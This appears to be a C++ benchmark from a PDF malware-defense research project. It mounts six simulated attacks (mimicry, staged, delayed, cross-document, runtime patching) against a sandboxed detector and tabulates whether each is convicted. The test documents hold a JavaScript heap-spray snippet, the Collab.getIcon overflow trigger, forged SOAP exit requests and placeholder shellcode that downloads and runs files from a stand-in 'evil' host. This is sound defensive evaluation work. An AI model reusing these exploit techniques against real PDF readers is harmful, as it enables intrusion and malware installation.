@@ -1,0 +1,162 @@
+// §IV reproduction: the security analysis as a measured experiment. Each
+// advanced attack the paper discusses is mounted against the deployed
+// system; the table reports whether the attack achieved anything and
+// whether the document was convicted.
+//   * mimicry (fake SOAP message)         -> zero tolerance conviction
+//   * structural mimicry [8]              -> runtime features still fire
+//   * staged attack (Doc.addScript)       -> stage-2 instrumented statically
+//   * delayed execution (app.setTimeOut)  -> same countermeasure
+//   * cross-document split attack         -> executable list links both
+//   * runtime patching                    -> encrypted payload, nothing to patch
+#include "bench_util.hpp"
+#include "corpus/builders.hpp"
+#include "reader/shellcode.hpp"
+
+using namespace pdfshield;
+
+namespace {
+
+struct AttackResult {
+  std::string attack;
+  bool goal_achieved;  ///< did the attacker get an un-confined effect?
+  bool convicted;
+  std::string note;
+};
+
+corpus::Sample make_sample(const std::string& name, const std::string& script,
+                           std::uint64_t seed) {
+  support::Rng rng(seed);
+  corpus::DocumentBuilder builder(rng);
+  builder.add_blank_page();
+  builder.set_open_action_js(script);
+  corpus::Sample s;
+  s.name = name;
+  s.data = builder.build();
+  s.malicious = true;
+  return s;
+}
+
+std::string spray(const std::string& shellcode) {
+  return "var unit = unescape('%u9090%u9090') + '" + shellcode + "';"
+         "var spray = unit; while (spray.length < 4194304) spray += spray;"
+         "var keep = spray;";
+}
+
+}  // namespace
+
+int main() {
+  bench::print_header("Sec IV", "Security analysis under an advanced attacker");
+  std::vector<AttackResult> results;
+
+  // --- 1. Mimicry: forged exit message ------------------------------------
+  {
+    bench::Deployment dep(101);
+    auto s = make_sample(
+        "mimicry-fake-exit.pdf",
+        "SOAP.request({cURL: 'http://127.0.0.1:8777/pdfshield',"
+        " oRequest: {op: 'exit', key: 'forged-key'}});" +
+            spray("SC{EXEC:c:/fake.exe}") +
+            "Collab.getIcon(keep.substring(0, 1500));",
+        201);
+    auto out = dep.run(s);
+    results.push_back({"fake SOAP exit message",
+                       dep.kernel.fs().exists("c:/fake.exe"), out.malicious_verdict,
+                       "zero tolerance converts the forgery into evidence"});
+  }
+
+  // --- 2. Structural mimicry [8] -------------------------------------------
+  {
+    bench::Deployment dep(102);
+    corpus::CorpusGenerator gen;
+    corpus::Sample s = gen.make_mimicry_variant(7);
+    auto out = dep.run(s);
+    bool escaped = false;
+    for (const auto& f : dep.kernel.fs().list()) {
+      if (!sys::VirtualFileSystem::is_quarantined(f) &&
+          f.find(".exe") != std::string::npos &&
+          f.rfind("sandbox://", 0) != 0) {
+        escaped = true;
+      }
+    }
+    results.push_back({"structural mimicry (benign-looking document)", escaped,
+                       out.malicious_verdict,
+                       "static features nulled, runtime behaviour unchanged"});
+  }
+
+  // --- 3. Staged attack ------------------------------------------------------
+  {
+    bench::Deployment dep(103);
+    auto s = make_sample(
+        "staged.pdf",
+        spray("SC{DROP:http://evil/s2.exe>c:/s2.exe;EXEC:c:/s2.exe}") +
+            "this.addScript('st2', 'Collab.getIcon(keep.substring(0, 1500));');",
+        203);
+    auto out = dep.run(s);
+    results.push_back({"staged attack via Doc.addScript",
+                       dep.kernel.fs().exists("c:/s2.exe"), out.malicious_verdict,
+                       "Table-IV literals get their own envelopes"});
+  }
+
+  // --- 4. Delayed execution ---------------------------------------------------
+  {
+    bench::Deployment dep(104);
+    auto s = make_sample(
+        "delayed.pdf",
+        spray("SC{DROP:http://evil/d.exe>c:/d.exe;EXEC:c:/d.exe}") +
+            "app.setTimeOut('Collab.getIcon(keep.substring(0, 1500));', 60000);",
+        204);
+    auto out = dep.run(s);
+    results.push_back({"delayed execution via app.setTimeOut",
+                       dep.kernel.fs().exists("c:/d.exe"), out.malicious_verdict,
+                       "setTimeOut argument instrumented statically"});
+  }
+
+  // --- 5. Cross-document split attack ----------------------------------------
+  {
+    bench::Deployment dep(105);
+    corpus::CorpusGenerator gen;
+    auto [dropper, executor] = gen.generate_cross_document_pair();
+    auto out_a = dep.run(dropper);
+    auto out_b = dep.run(executor);
+    results.push_back({"cross-document split (drop in A, exec in B)",
+                       false, out_a.malicious_verdict && out_b.malicious_verdict,
+                       "persistent executable list links both documents"});
+  }
+
+  // --- 6. Runtime patching -----------------------------------------------------
+  {
+    // The second script tries to neutralize monitoring by "patching" —
+    // but every script body is encrypted under the per-document key, so
+    // the attacker cannot even locate plaintext to patch; here it tries a
+    // fake exit then misbehaves.
+    bench::Deployment dep(106);
+    support::Rng rng(206);
+    corpus::DocumentBuilder builder(rng);
+    builder.add_blank_page();
+    builder.set_open_action_js(spray("SC{EXEC:c:/patch.exe}"));
+    builder.chain_next_js(
+        "SOAP.request({cURL: 'http://127.0.0.1:8777/pdfshield',"
+        " oRequest: {op: 'exit', key: 'patched-out'}});"
+        "Collab.getIcon(keep.substring(0, 1500));");
+    corpus::Sample s;
+    s.name = "runtime-patching.pdf";
+    s.data = builder.build();
+    auto out = dep.run(s);
+    results.push_back({"runtime patching + forged envelope exit",
+                       dep.kernel.fs().exists("c:/patch.exe"), out.malicious_verdict,
+                       "encrypted payloads retain control; forgery convicts"});
+  }
+
+  support::TextTable table({"Attack", "attacker goal achieved", "convicted", "defense"});
+  bool all_defended = true;
+  for (const auto& r : results) {
+    table.add_row({r.attack, r.goal_achieved ? "YES (!)" : "no",
+                   r.convicted ? "yes" : "NO (!)", r.note});
+    if (r.goal_achieved || !r.convicted) all_defended = false;
+  }
+  std::cout << table.render("Advanced attacks vs deployed system");
+  std::cout << (all_defended
+                    ? "all six attacks neutralized and convicted.\n"
+                    : "WARNING: at least one attack partially succeeded.\n");
+  return all_defended ? 0 : 1;
+}
